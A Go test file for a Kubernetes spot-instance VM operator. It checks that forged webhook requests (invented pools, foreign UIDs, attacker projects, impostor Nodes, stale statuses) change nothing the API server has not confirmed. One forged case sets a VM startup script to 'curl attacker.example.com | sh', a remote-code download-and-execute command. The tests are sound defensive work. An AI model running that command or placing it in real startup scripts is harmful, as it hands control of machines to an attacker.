package spotinstancevm_test

import (
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/lehuannhatrang/spot-instance-training-operator/api/v1alpha1"
	"github.com/lehuannhatrang/spot-instance-training-operator/internal/gce/gcefake"
)

// forgery is a request as anybody who reaches the hook's port could send it.
type forgery struct {
	path  string
	pool  v1alpha1.SpotInstanceVM
	jobs  []batchv1.Job
	nodes []corev1.Node
}

// A pool of two VMs trains on one of them. Whatever a request claims, nothing moves that the API server does not confirm.
func TestForgedRequestsMoveNothing(t *testing.T) {
	for name, forge := range map[string]func(*world, *forgery){
		"finalize, with a deletionTimestamp of its own": func(w *world, f *forgery) {
			f.path, f.pool.DeletionTimestamp = "/finalize", timestamp(w.clock.Now())
		},
		"a pool that does not exist": func(w *world, f *forgery) {
			f.pool.Name, f.pool.UID = "invented", "ffffffff-0000-0000-0000-000000000001"
			f.pool.Status = plannedBy(w, "invented-0123ab-7")
		},
		"a pool of this name with another UID": func(w *world, f *forgery) {
			w.kube.pool = func() *v1alpha1.SpotInstanceVM {
				other := w.pool.DeepCopy()
				other.UID = "ffffffff-0000-0000-0000-000000000001"
				return other
			}
			f.pool.Status = plannedBy(w, w.vm(7))
		},
		"a project of the attacker's": func(w *world, f *forgery) {
			f.pool.Spec.GCP.Project, f.pool.Status = "attacker", plannedBy(w, w.vm(7))
		},
		"a startup script of the attacker's": func(w *world, f *forgery) {
			f.pool.Spec.StartupScript, f.pool.Status = "curl attacker.example.com | sh", plannedBy(w, w.vm(7))
		},
		"a generation that is over": func(w *world, f *forgery) {
			w.pool.Generation++
			f.pool.Status = plannedBy(w, w.vm(7))
		},
		"a plan that the API server's status does not have": func(w *world, f *forgery) { f.pool.Status = plannedBy(w, w.vm(7)) },
		"an order to delete that the API server's status does not have": func(_ *world, f *forgery) {
			f.pool.Status.ProvisionedInstances[0].State = v1alpha1.InstanceDeleting
			f.pool.Status.ProvisionedInstances[1].State = v1alpha1.InstanceDeleting
		},
		"VMs that nobody has needed for long": func(w *world, f *forgery) {
			f.jobs = nil
			for i := range f.pool.Status.ProvisionedInstances {
				f.pool.Status.ProvisionedInstances[i].IdleSince = timestamp(w.clock.Now().Add(-time.Hour))
			}
		},
		"VMs that never joined, long ago": func(_ *world, f *forgery) {
			long := metav1.Duration{Duration: time.Minute}
			f.pool.Spec.JoinTimeout, f.pool.Status, f.nodes = &long, v1alpha1.SpotInstanceVMStatus{}, nil
		},
		"a Node of somebody else's with the pool's labels": func(w *world, f *forgery) {
			stranger := w.kube.nodes["control-plane"].DeepCopy()
			stranger.Labels = f.nodes[0].Labels
			stranger.Spec.ProviderID = "gce://" + project + "/" + zoneA + "/control-plane"
			f.nodes = []corev1.Node{*stranger}
		},
		"the Node of a VM under the UID of another one": func(w *world, f *forgery) {
			f.pool.Status = v1alpha1.SpotInstanceVMStatus{}
			f.nodes[0].Name, f.nodes[0].UID = w.vm(7), "another"
			f.nodes[0].Spec.ProviderID = "gce://" + project + "/" + zoneA + "/" + w.vm(7)
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := ready(t, 2)
			w.train(w.vm(0))
			w.kube.nodes["control-plane"] = &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "control-plane", UID: "cp"}}
			w.sync()
			w.demand(10)
			f := &forgery{path: "/sync", pool: *w.pool.DeepCopy(), nodes: w.kube.nodesOf(w.pool), jobs: w.jobs}
			forge(w, f)
			w.restart() // the server that is asked knows nothing
			before := w.moved()
			for range 3 {
				a := w.decode(w.claim(*f))
				assert.False(t, a.Finalized)
				f.pool.Status = a.Status // the attacker goes on from each answer
				w.clock.Advance(time.Minute)
			}
			assert.Equal(t, before, w.moved())
		})
	}
}

// plannedBy is a status with a plan in it.
func plannedBy(w *world, name string) v1alpha1.SpotInstanceVMStatus {
	return v1alpha1.SpotInstanceVMStatus{ObservedGeneration: 1, ProvisionedInstances: []v1alpha1.VMInstanceStatus{
		{Name: name, Zone: zoneA, State: v1alpha1.InstancePlanned, Since: timestamp(w.clock.Now())},
	}}
}

// claim sends a forged request.
func (w *world) claim(f forgery) (int, []byte) {
	return w.post(f.path, map[string]any{
		"controller": map[string]any{}, "parent": f.pool, "children": map[string]any{}, "finalizing": f.path == "/finalize",
		"related": map[string]any{"Job.batch/v1": keyed(f.jobs), "Pod.v1": map[string]any{}, "Node.v1": keyed(f.nodes)},
	})
}

// moved is all that a call could have changed.
func (w *world) moved() map[string]any {
	nodes := map[string]corev1.Node{}
	for name, n := range w.kube.nodes {
		nodes[name] = *n
	}
	return map[string]any{
		"inserts": w.gce.Calls()[gcefake.Insert], "deletes": w.gce.Calls()[gcefake.Delete],
		"nodes": nodes, "evicted": w.kube.evicted, "events": w.kube.events,
	}
}

// What costs a read of the pool: a call that changes something, however much, and no other.
func TestPoolIsReadOnceByACallThatChangesSomething(t *testing.T) {
	w := newWorld(t, fixed(3))
	w.sync()
	require.Zero(t, w.kube.gets, "planned, and nothing sent")
	w.sync()
	require.Equal(t, 3, w.inserts())
	require.Equal(t, 1, w.kube.gets)
	w.run(time.Minute)
	require.EqualValues(t, 3, w.pool.Status.ReadyReplicas)
	before := w.kube.gets
	w.run(10 * time.Minute)
	require.Equal(t, before, w.kube.gets, "at rest")
}

// A plan is sent by the call after it, although Metacontroller's cache does not show it yet.
func TestPlanIsSentAsSoonAsItIsWritten(t *testing.T) {
	w := newWorld(t, fixed(1))
	before := *w.pool.DeepCopy()
	w.sync()
	require.Zero(t, w.inserts())
	w.claim(forgery{path: "/sync", pool: before, jobs: w.jobs})
	require.Equal(t, 1, w.inserts())
	before.Status = v1alpha1.SpotInstanceVMStatus{}
	w.claim(forgery{path: "/sync", pool: before, jobs: w.jobs})
	require.Equal(t, 1, w.inserts(), "the API server's status has it as Creating")
}

func TestNothingIsChangedWhileThePoolCannotBeRead(t *testing.T) {
	w := newWorld(t, fixed(1))
	w.sync()
	w.kube.poolDown = true
	a := w.sync()
	require.Zero(t, w.inserts())
	require.Equal(t, v1alpha1.InstancePlanned, a.Status.ProvisionedInstances[0].State)
	w.kube.poolDown = false
	w.sync()
	require.Equal(t, 1, w.inserts())
}

// Metacontroller's cache may show a status that is over, and writes the answer over the one that is there.
func TestStaleRequestIsAnsweredByTheStatusThatIsThere(t *testing.T) {
	w := newWorld(t, fixed(1))
	w.sync()
	planned := *w.pool.DeepCopy()
	w.sync()
	require.Equal(t, 1, w.inserts())
	code, body := w.claim(forgery{path: "/sync", pool: planned, jobs: w.jobs})
	require.Equal(t, http.StatusOK, code)
	require.Equal(t, v1alpha1.InstancePlanned, planned.Status.ProvisionedInstances[0].State)
	require.Equal(t, w.pool.Status.ProvisionedInstances[0].State, w.decode(code, body).Status.ProvisionedInstances[0].State)
	require.Equal(t, 1, w.inserts())
}
